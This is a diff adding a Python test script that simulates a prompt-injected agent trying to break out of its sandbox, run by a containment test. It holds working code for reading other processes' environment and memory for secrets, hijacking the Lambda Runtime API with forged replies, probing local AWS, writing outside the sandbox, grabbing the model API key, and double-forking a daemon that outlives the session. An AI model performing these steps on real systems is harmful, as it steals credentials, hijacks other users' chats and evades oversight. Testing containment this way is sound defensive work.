@@ -1,0 +1,257 @@
+# ruff: noqa: SIM105, SIM115, B023  (a hostile script: terse on purpose)
+"""What a prompt-injected agent tries from its Bash tool (run by tests/test_containment.py).
+
+Run as ``python3 attack.py <dir>``: ``<dir>/needles.txt`` lists the secret values to look for
+(test scaffolding: the runtime never reads that file). Prints one line ``ATTACK-REPORT <json>``
+and leaves a daemon behind that keeps trying the Runtime API, the model proxy and the local
+AWS for a minute, if it is allowed to live.
+"""
+
+import json
+import os
+import socket
+import sys
+import time
+import urllib.request
+
+HERE = sys.argv[1]
+NEEDLES = [line.encode() for line in open(os.path.join(HERE, "needles.txt")).read().split("\n") if line]
+ME = os.getpid()
+
+
+def pids():
+    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != ME]
+
+
+def read(path, mode="rb"):
+    try:
+        with open(path, mode) as f:
+            return f.read()
+    except OSError:
+        return None
+
+
+def scan_proc():
+    leaks, environ_readable = [], []
+    for pid in pids():
+        for name in ("environ", "cmdline"):
+            data = read(f"/proc/{pid}/{name}")
+            if data is None:
+                continue
+            if name == "environ" and data:
+                environ_readable.append(pid)
+            leaks += [f"{pid}/{name}" for n in NEEDLES if n in data]
+    return leaks, environ_readable
+
+
+def scan_memory():
+    leaks, readable = [], []
+    for pid in pids():
+        maps = read(f"/proc/{pid}/maps", "r")
+        if not maps:
+            continue
+        try:
+            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
+        except OSError:
+            continue
+        with mem:
+            for line in maps.splitlines():
+                address, perms = line.split()[:2]
+                start, end = (int(x, 16) for x in address.split("-"))
+                if not perms.startswith("rw") or end - start > 256 << 20:
+                    continue
+                try:
+                    mem.seek(start)
+                    chunk = mem.read(end - start)
+                except OSError:
+                    continue
+                if pid not in readable:
+                    readable.append(pid)
+                leaks += [f"{pid}/mem" for n in NEEDLES if n in chunk]
+    return leaks, readable
+
+
+def listening_ports():
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        for line in (read(table, "r") or "").splitlines()[1:]:
+            fields = line.split()
+            if fields[3] == "0A":  # LISTEN
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return sorted(ports)
+
+
+def connectable(ports):
+    found = []
+    for port in ports:
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=1).close()
+            found.append(port)
+        except OSError:
+            pass
+    return found
+
+
+def take_invocation(port, wait_s):
+    """GET the Runtime API's next invocation; answer it with a forged reply. Returns what happened."""
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=wait_s) as s:
+            s.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
+            head = s.recv(65536)
+    except OSError:
+        return None
+    for line in head.split(b"\r\n"):
+        if line.lower().startswith(b"lambda-runtime-aws-request-id:"):
+            request_id = line.split(b":", 1)[1].strip().decode()
+            forged = json.dumps({"version": 1, "text": "FORGED BY A TOOL"}).encode()
+            req = urllib.request.Request(
+                f"http://127.0.0.1:{port}/2018-06-01/runtime/invocation/{request_id}/response", data=forged
+            )
+            try:
+                urllib.request.urlopen(req, timeout=2)
+            except OSError:
+                pass
+            return "stolen"
+    return None
+
+
+def aws_calls(ports):
+    """Anyone who reaches the local AWS without the functions' credentials: list, scan, read."""
+    import boto3
+
+    done = []
+    for port in ports:
+        url = f"http://127.0.0.1:{port}"
+        from botocore.config import Config
+
+        quick = Config(connect_timeout=1, read_timeout=2, retries={"max_attempts": 1})
+        kw = dict(
+            config=quick,
+            endpoint_url=url,
+            region_name="us-east-1",
+            aws_access_key_id="AKIAFAKEFAKEFAKEFAKE",
+            aws_secret_access_key="fake",
+        )
+        for name, call in (
+            ("s3", lambda: boto3.client("s3", **kw).list_buckets()),
+            ("dynamodb", lambda: boto3.client("dynamodb", **kw).list_tables()),
+            ("ssm", lambda: boto3.client("ssm", **kw).describe_parameters()),
+            *(
+                (
+                    f"lambda:{fn}",
+                    lambda fn=fn: boto3.client("lambda", **kw).invoke(FunctionName=fn, Payload=b"{}"),
+                )
+                for fn in ("agent-runtime", "agentbot-runtime", "agentbot-consumer", "agentbot-producer")
+            ),
+        ):
+            try:
+                call()
+                done.append(f"{port}:{name}")
+            except Exception:
+                pass
+    return done
+
+
+def other_sessions():
+    root = os.path.dirname(os.path.dirname(os.getcwd()))
+    seen = []
+    # The sessions root and what the SDK copies into the temp dir (other files there are not ours).
+    bases = [root] + [os.path.join("/tmp", n) for n in os.listdir("/tmp") if n.startswith("claude")]
+    for base in bases:
+        for dirpath, _dirs, files in os.walk(base):
+            for name in files:
+                data = read(os.path.join(dirpath, name))
+                if data and b"private-of-" + b"chat-a" in data:  # not the literal: this file would match
+                    seen.append(os.path.join(dirpath, name))
+    return seen
+
+
+def writes(config_path):
+    landed = []
+    root = os.path.dirname(os.path.dirname(os.getcwd()))
+    for target in (
+        "/tmp/agentbot-escaped.txt",
+        os.path.join(root, "escaped.txt"),
+        os.path.join(config_path, "escaped.txt"),
+        os.path.join(HERE, "escaped.txt"),
+    ):
+        try:
+            with open(target, "w") as f:
+                f.write("escaped")
+            landed.append(target)
+        except OSError:
+            pass
+    return landed
+
+
+def signals():
+    """Who outside the turn could this tool signal (signal 0 only checks)?"""
+    hits = []
+    for pid in pids():
+        cmdline = read(f"/proc/{pid}/cmdline") or b""
+        if b"awslambdaric" in cmdline:
+            try:
+                os.kill(pid, 0)
+                hits.append(pid)
+            except OSError:
+                pass
+    return hits
+
+
+def daemon(ports, key, base_url):
+    """Outlive the turn: keep trying to take the next chat's invocation and to use the model key."""
+    deadline = time.time() + 60
+    while time.time() < deadline:
+        for port in ports:
+            take_invocation(port, 0.3)
+        try:
+            req = urllib.request.Request(f"{base_url}/v1/messages", data=b"{}", headers={"x-api-key": key})
+            urllib.request.urlopen(req, timeout=1)
+        except Exception:
+            pass
+        time.sleep(0.1)
+
+
+def leave_daemons(ports):
+    key, base = os.environ.get("ANTHROPIC_API_KEY", ""), os.environ.get("ANTHROPIC_BASE_URL", "")
+    child = os.fork()
+    if child == 0:
+        os.setsid()
+        if os.fork() == 0:  # double fork: re-parented, own session, no terminal, no pipes
+            devnull = os.open(os.devnull, os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(devnull, fd)
+            daemon(ports, key, base)
+        os._exit(0)
+    os.waitpid(child, 0)
+    os.system("setsid nohup sleep 300 >/dev/null 2>&1 < /dev/null &")
+
+
+def main():
+    proc_leaks, environ_readable = scan_proc()
+    mem_leaks, mem_readable = scan_memory()
+    ports = listening_ports()
+    reachable = connectable(ports)
+    stolen = [p for p in reachable if take_invocation(p, 1) == "stolen"]
+    report = {
+        "proc_leaks": proc_leaks,
+        "environ_readable": environ_readable,
+        "mem_leaks": mem_leaks,
+        "mem_readable": mem_readable,
+        "listening": ports,
+        "connectable": reachable,
+        "stolen": stolen,
+        "aws": aws_calls(reachable),
+        "other_sessions": other_sessions(),
+        "writes": writes(sys.argv[2]),
+        "signals": signals(),
+        "env_names": sorted(os.environ),
+        "model_key": os.environ.get("ANTHROPIC_API_KEY", ""),
+        "model_url": os.environ.get("ANTHROPIC_BASE_URL", ""),
+        "uid": os.getuid(),
+    }
+    leave_daemons(reachable or ports)
+    print("ATTACK-REPORT " + json.dumps(report))
+
+
+main()
